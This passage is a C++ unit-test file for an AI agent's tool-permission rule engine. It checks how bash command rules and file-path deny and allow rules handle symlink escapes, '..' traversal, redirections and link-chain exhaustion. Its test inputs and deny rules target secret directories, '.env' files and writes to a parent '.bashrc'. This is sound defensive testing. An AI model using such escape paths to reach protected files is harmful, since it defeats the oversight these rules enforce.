  RuleSet rules = Rules({Command(RuleAction::kAllow, "ls *"), Command(RuleAction::kAsk, "rm *")});
  EXPECT_EQ(Bash(rules, "ls -l", ApprovalMode::kDenyAll).action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "ls -l && make", ApprovalMode::kDenyAll).action, RuleAction::kDeny);
  EXPECT_EQ(Bash(rules, "make && rm x", ApprovalMode::kAllowAll).action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "make && ls x", ApprovalMode::kAllowAll).action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "ls -l", ApprovalMode::kAskAll).action, RuleAction::kAllow);
}

class PathRulesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_FALSE(project_.path().empty());
    ASSERT_FALSE(outside_.path().empty());
    std::filesystem::create_directories(project_.Join("src/sub"));
    std::filesystem::create_symlink(outside_.path(), project_.Join("src/link"));
    std::filesystem::create_symlink(outside_.Join("new.txt"), project_.Join("src/dangling"));
  }

  Decision Write(const RuleSet& rules, const std::string& path, const std::string& cwd = "") {
    return rules.Evaluate(kWrite, Json{{"path", path}}, cwd.empty() ? project_.path() : cwd,
                          ApprovalMode::kDefault);
  }

  TempDir project_;
  TempDir outside_;
};

TEST_F(PathRulesTest, RelativePatternsAreAnchoredAtTheWorkingDirectory) {
  RuleSet rules = Rules({Path(RuleAction::kAllow, "src/**")});
  EXPECT_EQ(Write(rules, "src/a.cc").action, RuleAction::kAllow);
  EXPECT_EQ(Write(rules, "./src/sub/b.cc").action, RuleAction::kAllow);
  EXPECT_EQ(Write(rules, project_.Join("src/a.cc")).action, RuleAction::kAllow);
  Decision escaped = Write(rules, "src/../../x.txt");
  EXPECT_EQ(escaped.action, RuleAction::kAsk);
  std::string parent = std::filesystem::path(project_.path()).parent_path().string();
  EXPECT_EQ(escaped.reason,
            "builtin/write_file is not read-only; no rule matched for " + parent + "/x.txt");
  EXPECT_EQ(Write(rules, "../x.txt").action, RuleAction::kAsk);
  EXPECT_EQ(Write(rules, "a.txt").action, RuleAction::kAsk);
  // The same pattern from another working directory means another place.
  EXPECT_EQ(Write(rules, project_.Join("src/a.cc"), outside_.path()).action, RuleAction::kAsk);
}

TEST_F(PathRulesTest, SymlinksAreMatchedByTheirTarget) {
  RuleSet rules =
      Rules({Path(RuleAction::kDeny, outside_.path() + "/**"), Path(RuleAction::kAllow, "src/**")});
  Decision through_link = Write(rules, "src/link/f.txt");
  EXPECT_EQ(through_link.action, RuleAction::kDeny);
  EXPECT_THAT(through_link.reason, HasSubstr("for " + outside_.Join("f.txt")));
  EXPECT_EQ(Write(rules, "src/dangling").action, RuleAction::kDeny);
  // ".." as written is taken lexically, as the file tools take it: they open
  // <cwd>/src/sub/x for "src/link/../sub/x", so that is what rules see.
  Decision parent = Write(rules, "src/link/../sub/x");
  EXPECT_EQ(parent.action, RuleAction::kAllow);
  EXPECT_THAT(parent.reason, HasSubstr("for " + project_.Join("src/sub/x")));
  // And a ".." cannot lead a deny rule astray: "src/link/../../secret" is
  // the project's own secret for the tools, and for the rules.
  RuleSet deny_secret = Rules({Path(RuleAction::kDeny, "secret/**")});
  EXPECT_EQ(Write(deny_secret, "src/link/../../secret/a.txt").action, RuleAction::kDeny);
  RuleSet allow_only = Rules({Path(RuleAction::kAllow, "src/**")});
  EXPECT_EQ(Write(allow_only, "src/link/f.txt").action, RuleAction::kAsk);
  EXPECT_EQ(Write(allow_only, "src/sub/f.txt").action, RuleAction::kAllow);
}

TEST_F(PathRulesTest, PatternsThroughSymlinkedDirectoriesStillMatch) {
  std::string alias = outside_.Join("alias");
  std::filesystem::create_symlink(project_.path(), alias);
  // The working directory and an absolute pattern both name the project
  // through the link.
  RuleSet relative = Rules({Path(RuleAction::kAllow, "src/*.cc")});
  EXPECT_EQ(Write(relative, "src/a.cc", alias).action, RuleAction::kAllow);
  RuleSet absolute = Rules({Path(RuleAction::kAllow, alias + "/src/*.cc")});
  EXPECT_EQ(Write(absolute, "src/a.cc").action, RuleAction::kAllow);
  RuleSet regex = Rules({Path(RuleAction::kAllow, "re:" + project_.path() + "/src/[a-z]+\\.cc")});
  EXPECT_EQ(Write(regex, alias + "/src/a.cc").action, RuleAction::kAllow);
  EXPECT_EQ(Write(regex, "src/A.cc").action, RuleAction::kAsk);
}

// Each evaluation looks at the file system afresh: re-pointing a link
// between two calls moves the second call under the rule that now covers
// the target (LinkMemo lives for one evaluation only).
TEST_F(PathRulesTest, EachEvaluationSeesTheLinksAsTheyAreNow) {
  std::filesystem::create_directories(project_.Join("secret"));
  RuleSet rules = Rules({Path(RuleAction::kDeny, "secret/**"), Path(RuleAction::kAllow, "src/**")});
  const std::string door = project_.Join("src/door");
  std::filesystem::create_symlink(project_.Join("src/sub"), door);
  EXPECT_EQ(Write(rules, "src/door/key").action, RuleAction::kAllow);
  std::filesystem::remove(door);
  std::filesystem::create_symlink(project_.Join("secret"), door);
  EXPECT_EQ(Write(rules, "src/door/key").action, RuleAction::kDeny);
  // The same for the pattern's side: a deny pattern whose directory
  // becomes a link follows it at the next call.
  RuleSet deny_link = Rules({Path(RuleAction::kDeny, "src/door/**")});
  EXPECT_EQ(Write(deny_link, "secret/key").action, RuleAction::kDeny);
  std::filesystem::remove(door);
  std::filesystem::create_symlink(project_.Join("src/sub"), door);
  EXPECT_EQ(Write(deny_link, "secret/key").action, RuleAction::kAsk);
  EXPECT_EQ(Write(deny_link, "src/sub/key").action, RuleAction::kDeny);
}

// A memo answers as the file system did when it first asked, for every
// path after: resolving through one gives what resolving afresh gives.
TEST_F(PathRulesTest, AMemoResolvesAsTheFileSystemDoes) {
  const std::string& p = project_.path();
  std::filesystem::create_symlink("link/../up", project_.Join("src/via"));
  std::filesystem::create_symlink("sub", project_.Join("src/relative"));
  LinkMemo memo;
  for (const char* path : {"src/./sub//x/", "", "/../../etc", "src/link", "src/dangling",
                           "missing/../src/link/a", "src/link/../sub", "src/via", "src/relative/f",
                           "src/link", "src/relative/g"}) {
    EXPECT_EQ(ResolveRulePath(p, path, &memo), ResolveRulePath(p, path)) << path;
  }
  for (const char* pattern : {"src/**", "src/link/*.txt", "/etc/**", "re:^/x$"}) {
    EXPECT_EQ(AnchorPathPattern(p, pattern, &memo), AnchorPathPattern(p, pattern)) << pattern;
  }
  EXPECT_EQ(memo.Target(project_.Join("src/relative")), "sub");
  EXPECT_EQ(memo.Target(project_.Join("src/sub")), std::nullopt);
  // What it saw it keeps: a memo is for one evaluation.
  std::filesystem::remove(project_.Join("src/relative"));
  EXPECT_EQ(memo.Target(project_.Join("src/relative")), "sub");
  LinkMemo fresh;
  EXPECT_EQ(fresh.Target(project_.Join("src/relative")), std::nullopt);
  // Whole answers too: one evaluation sees one file system, the next one
  // sees the link re-pointed.
  EXPECT_EQ(ResolveRulePath(p, "src/relative/f", &memo), p + "/src/sub/f");
  std::filesystem::create_symlink("link", project_.Join("src/relative"));
  EXPECT_EQ(ResolveRulePath(p, "src/relative/f", &memo), p + "/src/sub/f");
  LinkMemo later;
  EXPECT_EQ(ResolveRulePath(p, "src/relative/f", &later), outside_.Join("f"));
}

// A link the project holds decides nothing for an allow rule: "vendor" ->
// somewhere else does not make "vendor/**" allow writing there, by either
// name. Deny rules still follow it.
TEST_F(PathRulesTest, ALinkInTheProjectDoesNotWidenAnAllowRule) {
  std::filesystem::create_symlink(outside_.path(), project_.Join("vendor"));
  RuleSet allow =
      Rules({Path(RuleAction::kAllow, "vendor/**"), Path(RuleAction::kAllow, "src/**")});
  EXPECT_EQ(Write(allow, "vendor/x.txt").action, RuleAction::kAsk);
  EXPECT_EQ(Write(allow, outside_.Join("x.txt")).action, RuleAction::kAsk);
  EXPECT_EQ(Write(allow, "src/sub/x.txt").action, RuleAction::kAllow);
  // Nor a link to the project's own parent ("up -> ..").
  std::filesystem::create_symlink("..", project_.Join("up"));
  RuleSet allow_up = Rules({Path(RuleAction::kAllow, "up/**")});
  const std::string parent = std::filesystem::path(project_.path()).parent_path().string();
  EXPECT_EQ(Write(allow_up, parent + "/.bashrc").action, RuleAction::kAsk);
  EXPECT_EQ(Write(allow_up, "up/.bashrc").action, RuleAction::kAsk);
  RuleSet deny = Rules({Path(RuleAction::kDeny, "vendor/**")});
  EXPECT_EQ(Write(deny, outside_.Join("x.txt")).action, RuleAction::kDeny);
  EXPECT_EQ(AnchorPathPattern(project_.path(), "vendor/**", nullptr, /*allow_rule=*/true),
            project_.Join("vendor/**"));
  EXPECT_EQ(AnchorPathPattern(project_.path(), "vendor/**"), outside_.path() + "/**");
}

// More links than the kernel follows for one path (a chain made to run out
// the count) leave no rule able to say which file the path names.
TEST_F(PathRulesTest, APathWithTooManyLinksIsDenied) {
  std::filesystem::create_symlink(".", project_.Join("s"));
  std::filesystem::create_symlink(outside_.path(), project_.Join("d"));
  std::string chain;
  for (int i = 0; i < 40; ++i) chain += "s/";
  RuleSet allow = Rules({Path(RuleAction::kAllow, "/**")});
  Decision decision = Write(allow, chain + "d/f.txt");
  EXPECT_EQ(decision.action, RuleAction::kDeny);
  EXPECT_THAT(decision.reason, HasSubstr("more symbolic links than the system follows"));
  EXPECT_EQ(Write(allow, "s/s/d/f.txt").action, RuleAction::kAllow);
  EXPECT_FALSE(ResolveRulePathWith(project_.path(), chain + "d/f.txt", nullptr, {}).complete);
  EXPECT_TRUE(ResolveRulePathWith(project_.path(), "s/s/d/f.txt", nullptr, {}).complete);
}

// bash opens "link/../x" after following the link, so a redirection's
// target is resolved that way, unlike a file tool's path.
TEST_F(PathRulesTest, RedirectTargetsTakeDotDotAfterTheLink) {
  std::filesystem::create_directories(outside_.Join("a"));
  std::filesystem::create_symlink(outside_.Join("a"), project_.Join("src/m"));
  EXPECT_EQ(ResolveRedirectTarget(project_.path(), "src/m/../key"), outside_.Join("key"));
  EXPECT_EQ(ResolveRulePath(project_.path(), "src/m/../key"), project_.Join("src/key"));
  RuleSet rules = Rules({Command(RuleAction::kAllow, "echo *"),
                         Redirect(RuleAction::kDeny, outside_.path() + "/**"),
                         Redirect(RuleAction::kAllow, "src/**")});
  Decision decision = rules.Evaluate(kBash, Json{{"command", "echo k >> src/m/../key"}},
                                     project_.path(), ApprovalMode::kAllowAll);
  EXPECT_EQ(decision.action, RuleAction::kDeny);
  EXPECT_THAT(decision.reason, HasSubstr(outside_.Join("key")));
}

// A "re:" pattern cannot match a path that is not UTF-8: deny and ask rules
// then apply, and allow rules do not.
TEST_F(PathRulesTest, RegexRulesFailClosedOnPathsThatAreNotUtf8) {
  const std::string latin1 = "caf\xe9/.env";
  RuleSet deny = Rules({Path(RuleAction::kDeny, "re:.*/\\.env")});
  EXPECT_EQ(Write(deny, latin1).action, RuleAction::kDeny);
  EXPECT_EQ(Write(deny, "cafe/.env").action, RuleAction::kDeny);
  EXPECT_EQ(Write(deny, "cafe/env").action, RuleAction::kAsk);
  RuleSet allow = Rules({Path(RuleAction::kAllow, "re:.*")});
  EXPECT_EQ(Write(allow, latin1).action, RuleAction::kAsk);
  EXPECT_EQ(Write(allow, "cafe/.env").action, RuleAction::kAllow);
}

// A deny or ask rule that names a directory covers what is inside it.
TEST_F(PathRulesTest, ADenyRuleNamingADirectoryCoversItsContents) {
  std::filesystem::create_directories(project_.Join("secret"));
  for (const char* pattern : {"secret", "secret/"}) {
    RuleSet deny = Rules({Path(RuleAction::kDeny, pattern), Path(RuleAction::kAllow, "**")});
    EXPECT_EQ(Write(deny, "secret/key").action, RuleAction::kDeny) << pattern;
    EXPECT_EQ(Write(deny, "secret/a/b").action, RuleAction::kDeny) << pattern;
    EXPECT_EQ(Write(deny, "secret").action, RuleAction::kDeny) << pattern;
    EXPECT_EQ(Write(deny, "secrets.txt").action, RuleAction::kAllow) << pattern;
  }
  // An allow rule names exactly what it says.
  RuleSet allow = Rules({Path(RuleAction::kAllow, "secret")});
  EXPECT_EQ(Write(allow, "secret/key").action, RuleAction::kAsk);
}

TEST_F(PathRulesTest, ResolveRulePathNormalizesAndFollowsLinks) {
  const std::string& p = project_.path();
  EXPECT_EQ(ResolveRulePath(p, "src/./sub//x/"), p + "/src/sub/x");
  EXPECT_EQ(ResolveRulePath(p, ""), p);
  EXPECT_EQ(ResolveRulePath(p, "/../../etc"), "/etc");
  EXPECT_EQ(ResolveRulePath(p, "src/link"), outside_.path());
  EXPECT_EQ(ResolveRulePath(p, "src/dangling"), outside_.Join("new.txt"));
  EXPECT_EQ(ResolveRulePath(p, "missing/../src/link/a"), outside_.Join("a"));
  EXPECT_EQ(ResolveRulePath(p, "src/link/../sub"), p + "/src/sub");
  // ".." inside a link's target is physical, as for the kernel.
  std::filesystem::create_symlink("link/../up", project_.Join("src/via"));
  EXPECT_EQ(ResolveRulePath(p, "src/via"),
            std::filesystem::path(outside_.path()).parent_path().string() + "/up");
  std::filesystem::create_symlink("loop2", project_.Join("loop1"));
  std::filesystem::create_symlink("loop1", project_.Join("loop2"));
  EXPECT_THAT(ResolveRulePath(p, "loop1/x"), StartsWith(p + "/loop"));
  std::filesystem::create_symlink("sub", project_.Join("src/relative"));
  EXPECT_EQ(ResolveRulePath(p, "src/relative/f"), p + "/src/sub/f");
}

TEST(RuleSetTest, SessionRulesAllowExactlyWhatWasApproved) {
  RuleSet rules = Rules({Command(RuleAction::kDeny, "rm *")});
  Json call{{"command", "git status && make -j2 | tee 'log *' && make -j2"}};
  std::vector<RuleConfig> session = RuleSet::SessionRulesFor(kBash, call, "/");
  ASSERT_EQ(session.size(), 3u);
  EXPECT_EQ(session[0], Command(RuleAction::kAllow, "git status"));
  EXPECT_EQ(session[1], Command(RuleAction::kAllow, "make -j2"));
  EXPECT_EQ(session[2], Command(RuleAction::kAllow, "tee 'log \\*'"));
  EXPECT_EQ(rules.Evaluate(kBash, call, "/", ApprovalMode::kDefault).action, RuleAction::kAsk);
  ASSERT_TRUE(rules.AddSessionRules(session).ok());
  Decision again = rules.Evaluate(kBash, call, "/", ApprovalMode::kDefault);
  EXPECT_EQ(again.action, RuleAction::kAllow);
  EXPECT_THAT(again.reason, HasSubstr("session rule (allow builtin/bash command \"git status\")"));
  EXPECT_EQ(Bash(rules, "tee 'log x'").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "make -j3").action, RuleAction::kAsk);
  // The agent's rules come first.
  ASSERT_TRUE(
      rules.AddSessionRules(RuleSet::SessionRulesFor(kBash, Json{{"command", "rm x"}}, "/")).ok());
  EXPECT_EQ(Bash(rules, "rm x").action, RuleAction::kDeny);
}

TEST(RuleSetTest, SessionRulesForPathsAndOtherTools) {
  TempDir dir;
  std::vector<RuleConfig> path_rules =
      RuleSet::SessionRulesFor(kWrite, Json{{"path", "a/../b*.txt"}}, dir.path());
  ASSERT_EQ(path_rules.size(), 1u);
  EXPECT_EQ(path_rules[0],
            Path(RuleAction::kAllow, dir.path() + "/b\\*.txt", "builtin/write_file"));
  RuleSet rules;
  ASSERT_TRUE(rules.AddSessionRules(path_rules).ok());
  EXPECT_EQ(
      rules.Evaluate(kWrite, Json{{"path", "b*.txt"}}, dir.path(), ApprovalMode::kDefault).action,
      RuleAction::kAllow);
  EXPECT_EQ(
      rules.Evaluate(kWrite, Json{{"path", "bx.txt"}}, dir.path(), ApprovalMode::kDefault).action,
      RuleAction::kAsk);

  EXPECT_THAT(RuleSet::SessionRulesFor(kMcp, Json::object(), "/"),
              ::testing::ElementsAre(Whole(RuleAction::kAllow, "mcp/files/delete")));
  EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json{{"command", "echo 'oops"}}, "/"), IsEmpty());
  // Wrapped commands are allowed too; canonical forms need no rule; an
  // opaque line cannot be allowed exactly.
  EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json{{"command", "\\rm f | xargs rm"}}, "/"),
              ::testing::ElementsAre(Command(RuleAction::kAllow, "\\\\rm f"),
                                     Command(RuleAction::kAllow, "xargs rm"),
                                     Command(RuleAction::kAllow, "rm \u2026")));
  EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json{{"command", "echo $((x))"}}, "/"), IsEmpty());
  EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json::object(), "/"), IsEmpty());
  // A required path that is missing: nothing to allow.
  ToolSpec write_required = kWrite;
  write_required.input_schema = OrderedJson{{"required", {"path"}}};
  EXPECT_THAT(RuleSet::SessionRulesFor(write_required, Json::object(), "/"), IsEmpty());
  // An optional path that is missing means the working directory (glob,
  // grep and list_dir search there).
  EXPECT_THAT(RuleSet::SessionRulesFor(kWrite, Json::object(), dir.path()),
              ::testing::ElementsAre(Path(RuleAction::kAllow, ResolveRulePath(dir.path(), "."),
                                          "builtin/write_file")));
}

TEST(RuleSetTest, InvalidPatternsNameTheRuleAndField) {
  auto bad_regex =
      RuleSet::Compile({Command(RuleAction::kAllow, "ls"), Whole(RuleAction::kAsk, "x"),
                        Command(RuleAction::kDeny, "re:rm (")},
                       "agents.x.rules");
  ASSERT_FALSE(bad_regex.ok());
  EXPECT_EQ(bad_regex.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(std::string(bad_regex.status().message()),
              StartsWith("agents.x.rules[2].command: invalid regular expression \"rm (\": "));
  auto bad_path = RuleSet::Compile({Path(RuleAction::kAllow, "src/\\")}, "agents.x.rules");
  ASSERT_FALSE(bad_path.ok());
  EXPECT_THAT(std::string(bad_path.status().message()), StartsWith("agents.x.rules[0].path: "));
  auto bad_tool = RuleSet::Compile({Whole(RuleAction::kAllow, "")}, "agents.x.rules");
  ASSERT_FALSE(bad_tool.ok());
  EXPECT_EQ(bad_tool.status().message(), "agents.x.rules[0].tool: pattern is empty");
  auto both =
      RuleSet::Compile({RuleConfig{RuleAction::kAllow, "*", "ls", "/tmp", std::nullopt}},
                       "agents.x.rules");
  ASSERT_FALSE(both.ok());
  EXPECT_THAT(std::string(both.status().message()),
              HasSubstr("agents.x.rules[0]: a rule has one of a command, a path, a redirect or a url"));
  auto bad_redirect = RuleSet::Compile({Redirect(RuleAction::kAllow, "/tmp/\\")}, "agents.x.rules");
  ASSERT_FALSE(bad_redirect.ok());
  EXPECT_THAT(std::string(bad_redirect.status().message()),
              StartsWith("agents.x.rules[0].redirect: "));
  RuleSet set;
  absl::Status session = set.AddSessionRules({Command(RuleAction::kAllow, "re:(")});
  EXPECT_THAT(std::string(session.message()), StartsWith("session rules[0].command: "));
}

}  // namespace
}  // namespace raw::tools::policy
